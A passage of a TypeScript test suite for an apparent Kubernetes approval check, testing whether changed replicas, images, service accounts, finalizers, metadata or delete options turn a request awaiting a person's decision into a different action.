  test('a service account approved for one image is not approved for another', () => {
    const run = (image: string, serviceAccountName: string): Plain =>
      deployment({ template: { spec: { serviceAccountName, containers: [{ name: 'web', image }] } } })
    const elevate = (image: string): Request => updated(run(image, 'web'), run(image, 'admin'))
    expectOtherAction(elevate(imageA), elevate(imageB))
  })

  test('a variable that is there twice is not there once', () => {
    const env = (...values: readonly string[]): Plain =>
      deployment({
        template: { spec: { containers: [{ name: 'web', env: values.map((value) => ({ name: 'A', value })) }] } },
      })
    expectOtherAction(created(env('1')), created(env('1', '1')))
    expectOtherAction(updated(env('1'), env('1', '2')), updated(env('1'), env('1', '3')))
    expectOtherAction(updated(env('1'), env('1', '2')), updated(env('1'), env('2', '1')))
  })

  test('the same scale from another number is another action', () => {
    const scale = (from: number, to: number): Request => ({
      subResource: 'scale',
      kind: { group: 'autoscaling', version: 'v1', kind: 'Scale' },
      oldObject: {
        kind: 'Scale',
        apiVersion: 'autoscaling/v1',
        metadata: { name: 'web', uid: 'u' },
        spec: { replicas: from },
      },
      object: {
        kind: 'Scale',
        apiVersion: 'autoscaling/v1',
        metadata: { name: 'web', uid: 'u' },
        spec: { replicas: to },
      },
    })
    expectOneAction(scale(4, 0), scale(4, 0))
    expectOtherAction(scale(4, 0), scale(400, 0))
    expectOtherAction(scale(4, 3), scale(4, 0))
  })
})

describe('what others do while a person decides', () => {
  const replicas = (count: number): { readonly spec: Plain } => ({ spec: { replicas: count } })

  test('an autoscaler voids neither an Update nor a Delete', () => {
    expectOneAction(
      updated(deployment(replicas(3)), deployment({ ...replicas(3), image: imageB })),
      updated(deployment(replicas(7)), deployment({ ...replicas(7), image: imageB })),
    )
    expectOneAction(deleted(deployment(replicas(3))), deleted(deployment(replicas(7))))
  })

  test('an Update that changes the replicas itself counts with both numbers and with the rest of the object', () => {
    const scale = (from: number, to: number, image = imageA): Request =>
      updated(deployment({ ...replicas(from), image }), deployment({ ...replicas(to), image }))
    expectOtherAction(scale(3, 0), scale(3, 1))
    expectOtherAction(scale(3, 0), scale(4, 0))
    expectOtherAction(scale(3, 0), scale(3, 0, imageB))
  })

  test('replicas of a kind without a scale subresource are content like any other', () => {
    const drop = (count: number): Request => deleted(widget(replicas(count)), asWidget)
    expectOtherAction(drop(3), drop(7))
  })

  test('replicas elsewhere in the object are content', () => {
    const nested = (count: number): Request => deleted(deployment({ spec: { strategy: { replicas: count } } }))
    expectOtherAction(nested(1), nested(2))
  })

  test('metadata that others change voids nothing', () => {
    const noted = {
      metadata: { annotations: { 'deployment.kubernetes.io/revision': '5' }, labels: { app: 'web', tier: 'x' } },
    }
    expectOneAction(
      updated(deployment(), deployment({ image: imageB })),
      updated(deployment(noted), deployment({ ...noted, image: imageB })),
    )
    expectOneAction(deleted(deployment()), deleted(deployment(noted)))
  })

  test.each<[string, Plain]>([
    ['a finalizer', { finalizers: ['example.com/backup-first'] }],
    ['an owner', { ownerReferences: [{ apiVersion: 'v1', kind: 'ConfigMap', name: 'x', uid: 'y' }] }],
  ])('%s that appears meanwhile makes the Delete another action, and shows', (_what, metadata) => {
    expectOtherAction(deleted(deployment()), deleted(deployment({ metadata })))
    expect(shown(deleted(deployment({ metadata })))).toContain(Object.keys(metadata)[0])
  })

  test('a spec that others change makes any action another one', () => {
    const other = { spec: { paused: true } }
    expectOtherAction(
      updated(deployment(), deployment({ image: imageB })),
      updated(deployment(other), deployment({ ...other, image: imageB })),
    )
    expectOtherAction(deleted(deployment()), deleted(deployment(other)))
  })

  test.each<[string, Plain]>([
    ['the propagation', { propagationPolicy: 'Orphan' }],
    ['the grace period', { gracePeriodSeconds: 0 }],
    ['a precondition', { preconditions: { uid: 'x' } }],
  ])('%s of a Delete counts', (_what, options) => {
    expectOtherAction(deleted(deployment()), deleted(deployment(), { options: { kind: 'DeleteOptions', ...options } }))
  })

  test('the finalizer that a Delete itself sets voids nothing, any other does', () => {
    const collected = (finalizers: readonly string[], options: Plain = { propagationPolicy: 'Foreground' }): Request =>
      deleted(deployment({ metadata: { finalizers } }), { options: { kind: 'DeleteOptions', ...options } })
    expectOneAction(collected([]), collected(['foregroundDeletion']))
    expectOneAction(collected([], { orphanDependents: true }), collected(['orphan'], { orphanDependents: true }))
    expectOtherAction(collected([]), collected(['foregroundDeletion', 'example.com/hold']))
    expectOtherAction(collected([], {}), collected(['foregroundDeletion'], {}))
    expectOtherAction(collected([]), collected([], { propagationPolicy: 'Background' }))
  })

  test('that a Delete is rehearsed is no part of it', () => {
    const options = { kind: 'DeleteOptions', apiVersion: 'meta.k8s.io/v1', propagationPolicy: 'Background' }
    expectOneAction(deleted(deployment()), deleted(deployment(), { options: { ...options, dryRun: ['All'] } }))
  })
})
